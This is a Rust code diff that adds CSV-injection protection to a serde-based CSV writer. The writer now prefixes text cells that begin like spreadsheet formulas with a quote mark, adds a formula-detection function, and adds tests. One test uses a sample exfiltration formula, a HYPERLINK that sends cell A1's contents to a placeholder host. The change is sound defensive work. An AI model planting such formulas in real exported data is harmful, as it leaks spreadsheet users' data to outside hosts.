@@ -9,6 +9,11 @@
 //!
 //! Unlike the csv crate, it writes the header when the table is created, so an empty table
 //! still has its columns.
+//!
+//! A text field that a spreadsheet would run as a formula (one that begins with `=`, `+`, `-`,
+//! `@`, a tab or a carriage return: "=HYPERLINK(…)") is written with a leading `'` unless the
+//! writer is told to keep formulas (OWASP's advice against CSV injection). Numbers are
+//! never changed.
 
 use serde::ser::{self, Impossible, Serialize};
 
@@ -30,9 +35,10 @@ impl ser::Error for Unsupported {
     }
 }
 
-/// Appends `row` to `out` as one CSV line.
-pub fn write_row<R: Serialize>(out: &mut Vec<u8>, row: &R) -> Result<(), Unsupported> {
-    row.serialize(Row { out, fields: 0 })?;
+/// Appends `row` to `out` as one CSV line; `keep_formulas` writes text fields that begin as a
+/// formula does as they are, not behind a `'`.
+pub fn write_row<R: Serialize>(out: &mut Vec<u8>, row: &R, keep_formulas: bool) -> Result<(), Unsupported> {
+    row.serialize(Row { out, fields: 0, keep_formulas })?;
     out.push(b'\n');
     Ok(())
 }
@@ -131,10 +137,27 @@ fn unsupported<T>(what: &str) -> Result<T, Unsupported> {
 struct Row<'a> {
     out: &'a mut Vec<u8>,
     fields: usize,
+    keep_formulas: bool,
 }
 
-/// One field's value.
-struct Field<'a>(&'a mut Vec<u8>);
+/// One field's value, and whether a text that begins as a formula is written as it is.
+struct Field<'a>(&'a mut Vec<u8>, bool);
+
+/// Whether a spreadsheet reads a cell that begins with `field` as a formula.
+pub fn reads_as_formula(field: &[u8]) -> bool {
+    matches!(field.first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
+}
+
+/// Appends a text field: behind a `'` where a spreadsheet would run it, unless `keep_formulas`.
+fn push_text(out: &mut Vec<u8>, field: &[u8], keep_formulas: bool) {
+    if keep_formulas || !reads_as_formula(field) {
+        return push_field(out, field);
+    }
+    let mut guarded = Vec::with_capacity(field.len() + 1);
+    guarded.push(b'\'');
+    guarded.extend_from_slice(field);
+    push_field(out, &guarded);
+}
 
 /// Collects a struct's field names.
 #[cfg(test)]
@@ -245,7 +268,7 @@ impl ser::SerializeStruct for Row<'_> {
             self.out.push(b',');
         }
         self.fields += 1;
-        value.serialize(Field(self.out))
+        value.serialize(Field(self.out, self.keep_formulas))
     }
 
     fn end(self) -> Result<(), Unsupported> {
@@ -295,21 +318,24 @@ impl ser::Serializer for Field<'_> {
         self.0.extend_from_slice(if v { b"true" } else { b"false" });
         Ok(())
     }
+    // (A number, negative or not, is no formula: written as it is.)
     fn serialize_f32(self, v: f32) -> Result<(), Unsupported> {
-        self.serialize_str(&v.to_string())
+        push_field(self.0, v.to_string().as_bytes());
+        Ok(())
     }
     fn serialize_f64(self, v: f64) -> Result<(), Unsupported> {
-        self.serialize_str(&v.to_string())
+        push_field(self.0, v.to_string().as_bytes());
+        Ok(())
     }
     fn serialize_char(self, v: char) -> Result<(), Unsupported> {
         self.serialize_str(v.encode_utf8(&mut [0; 4]))
     }
     fn serialize_str(self, v: &str) -> Result<(), Unsupported> {
-        push_field(self.0, v.as_bytes());
+        push_text(self.0, v.as_bytes(), self.1);
         Ok(())
     }
     fn serialize_bytes(self, v: &[u8]) -> Result<(), Unsupported> {
-        push_field(self.0, v);
+        push_text(self.0, v, self.1);
         Ok(())
     }
     fn serialize_none(self) -> Result<(), Unsupported> {
@@ -362,7 +388,7 @@ mod tests {
     fn ours(row: &Sample) -> Vec<u8> {
         let mut out = Vec::new();
         write_header(&mut out, &field_names(row).unwrap());
-        write_row(&mut out, row).unwrap();
+        write_row(&mut out, row, true).unwrap();
         out
     }
 
@@ -415,6 +441,29 @@ mod tests {
         }
     }
 
+    /// A text cell a spreadsheet would run as a formula gets a leading `'`, quoted where its
+    /// bytes ask; numbers (negative ones too) and other text are as they were; told to keep
+    /// formulas, the writer writes the crate's bytes.
+    #[test]
+    fn a_text_that_reads_as_a_formula_is_written_behind_a_quote_mark() {
+        let line = |text: &str, keep: bool| {
+            let row = Sample { text, n: 7, neg: -42, missing: None, present: Some("@x"), _skipped: 0 };
+            let mut out = Vec::new();
+            write_row(&mut out, &row, keep).unwrap();
+            String::from_utf8(out).unwrap()
+        };
+        assert_eq!(line("=1+1", false), "'=1+1,7,-42,,'@x\n");
+        assert_eq!(
+            line("=HYPERLINK(\"http://x?a=\"&A1,\"click\")", false),
+            "\"'=HYPERLINK(\"\"http://x?a=\"\"&A1,\"\"click\"\")\",7,-42,,'@x\n"
+        );
+        for formula in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(line(formula, false).trim_start_matches('"').starts_with('\''), "{formula:?}");
+        }
+        assert_eq!(line("plain = text", false), "plain = text,7,-42,,'@x\n");
+        assert_eq!(line("=1+1", true), "=1+1,7,-42,,@x\n");
+    }
+
     #[test]
     fn a_nested_value_is_an_error_not_a_garbled_line() {
         #[derive(serde::Serialize)]
@@ -422,7 +471,7 @@ mod tests {
             list: Vec<u8>,
         }
         let mut out = Vec::new();
-        let err = write_row(&mut out, &Nested { list: vec![1] }).unwrap_err();
+        let err = write_row(&mut out, &Nested { list: vec![1] }, false).unwrap_err();
         assert!(err.to_string().contains("sequence"), "{err}");
     }
 }
